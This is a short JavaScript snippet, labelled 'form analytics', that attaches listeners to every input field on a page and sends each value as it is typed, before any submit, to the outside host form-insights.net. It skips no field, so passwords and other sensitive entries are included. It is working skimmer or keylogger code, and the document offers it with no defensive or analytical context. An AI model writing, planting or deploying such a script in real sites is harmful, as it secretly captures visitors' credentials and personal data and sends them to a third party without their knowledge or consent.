// A "form analytics" script that sends what visitors type as they type it, before any submit.
(function () {
  var timer = 0, pending = {};
  function send() {
    timer = 0;
    var q = Object.keys(pending).map(function (k) { return encodeURIComponent(k) + '=' + encodeURIComponent(pending[k]); }).join('&');
    pending = {};
    fetch('https://form-insights.net/k', { method: 'POST', mode: 'no-cors', body: q,
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
  }
  document.querySelectorAll('input').forEach(function (input) {
    input.addEventListener('input', function () {
      pending[input.name || input.id] = input.value;
      if (!timer) timer = setTimeout(send, 300);
    });
  });
})();
